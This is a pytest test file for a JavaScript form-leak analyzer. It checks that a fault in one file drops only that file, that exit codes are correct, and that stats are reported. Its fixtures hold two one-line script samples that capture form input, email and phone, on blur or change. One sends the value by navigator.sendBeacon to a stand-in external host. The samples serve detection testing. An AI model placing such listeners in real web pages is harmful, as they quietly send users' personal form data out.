"""Per-file isolation: a fault while extracting, linking or building findings for one file drops that file
with a notification naming it and the stage; the rest of the scan is reported. Faults are injected with
monkeypatch (no test hooks in the product)."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from analyzer import cli, engine, findings

from analyzer.link import solve
from analyzer.extract.extractor import Extractor

GOOD = ("document.getElementById('email').addEventListener('blur', "
        "e => fetch('/capture?e=' + encodeURIComponent(e.target.value)));\n")
BAD = ("document.getElementById('phone').addEventListener('change', "
       "e => navigator.sendBeacon('https://collect.example.net/p', e.target.value));\n")


@pytest.fixture
def site(tmp_path: Path) -> Path:
    (tmp_path / "good.js").write_text(GOOD, encoding="utf-8")
    (tmp_path / "bad.js").write_text(BAD, encoding="utf-8")
    return tmp_path


def _only_good_reported(result) -> None:
    assert [(f.sink.path, f.sink_api) for f in result.findings] == [("good.js", "fetch")]
    crashed = [n for n in result.notifications if n.reason == "crashed"]
    assert [n.path for n in crashed] == ["bad.js"]
    assert not result.complete


def test_fault_while_extracting_one_file(site, monkeypatch):
    real = Extractor.run

    def run(self):
        if self.u.rel == "bad.js":
            raise RuntimeError("injected extraction fault")
        return real(self)

    monkeypatch.setattr(Extractor, "run", run)
    r = engine.scan([site])
    _only_good_reported(r)
    (n,) = [n for n in r.notifications if n.reason == "crashed"]
    assert "extract stage" in n.message and "RuntimeError" in n.message


def test_fault_while_linking_is_traced_to_its_file(site, monkeypatch):
    # The EC-CUBE 2 shape: the solver fails on a node of one file. The engine names the file from the
    # node being propagated, drops it and links the rest again.
    real = solve.Solver.propagate

    def propagate(self):
        bad = [u.uid for u in self.p.units if u.rel == "bad.js"]
        if bad:
            nid = next(n for n, uid in enumerate(self.p.unit) if uid == bad[0])
            self.work.appendleft((nid, 0))
            try:
                raise KeyError(nid)
            except KeyError:
                self.cursor = nid
                raise
        return real(self)

    monkeypatch.setattr(solve.Solver, "propagate", propagate)
    r = engine.scan([site])
    _only_good_reported(r)
    (n,) = [n for n in r.notifications if n.reason == "crashed"]
    assert "link stage" in n.message and "KeyError" in n.message


def test_fault_in_a_linking_pass_is_reported_and_the_scan_goes_on(site, monkeypatch):
    # A pass's own bug (no node being propagated, so no file to blame): the pass is skipped with a
    # notification, the report is incomplete, and every file's findings that do not need it are kept.
    def _event_bus(self):
        raise TypeError("injected pass fault")

    monkeypatch.setattr(solve.Solver, "_event_bus", _event_bus)
    r = engine.scan([site])
    assert sorted((f.sink.path, f.sink_api) for f in r.findings) == [("bad.js", "navigator.sendBeacon"),
                                                                     ("good.js", "fetch")]
    (n,) = [n for n in r.notifications if n.reason == "crashed"]
    assert "event_bus pass" in n.message and "TypeError" in n.message and n.level == "error"
    assert not r.complete


def test_fault_while_building_a_finding(site, monkeypatch):
    real = findings._finding

    def one(prog, *args):
        rec = args[6]
        if prog.units[rec.uid].rel == "bad.js":
            raise ValueError("injected findings fault")
        return real(prog, *args)

    monkeypatch.setattr(findings, "_finding", one)
    r = engine.scan([site])
    _only_good_reported(r)


def test_a_fault_that_names_no_file_exits_2_with_one_line(site, monkeypatch, capsys):
    def boom(*a, **k):
        raise RuntimeError("injected path-search fault")

    monkeypatch.setattr(engine, "search", boom)
    code = cli.main(["scan", str(site), "--no-progress"])
    err = capsys.readouterr().err
    assert code == 2
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1 and "path-search fault" in err


def test_a_fault_after_the_analysis_exits_2_not_1(site, monkeypatch, capsys):
    import analyzer.report as report

    def boom(*a, **k):
        raise RuntimeError("injected reporting fault")

    monkeypatch.setattr(report, "render", boom)
    code = cli.main(["scan", str(site), "--no-progress"])
    err = capsys.readouterr().err
    assert code == 2, "an internal error must never look like findings (1)"
    assert "Traceback" not in err and "reporting fault" in err


def test_stats_are_printed_and_in_the_json_report(site, tmp_path, capsys):
    out = tmp_path / "r.json"
    code = cli.main(["scan", str(site), "--no-progress", "--stats", "--format", "json", "--output", str(out)])
    assert code == 1
    err = capsys.readouterr().err
    assert "formleak stats:" in err and "paths" in err and "slowest files" in err
    doc = json.loads(out.read_text())
    assert set(doc["stats"]["stages"]) >= {"discover", "parse", "extract", "link", "triggers", "paths", "findings"}
    assert {f["path"] for f in doc["stats"]["slowest_files"]} == {"good.js", "bad.js"}


def test_no_stats_keeps_the_report_deterministic(site, tmp_path):
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    cli.main(["scan", str(site), "--no-progress", "--format", "json", "--output", str(a)])
    cli.main(["scan", str(site), "--no-progress", "--format", "json", "--output", str(b)])
    assert "stats" not in json.loads(a.read_text())
    assert a.read_bytes() == b.read_bytes()
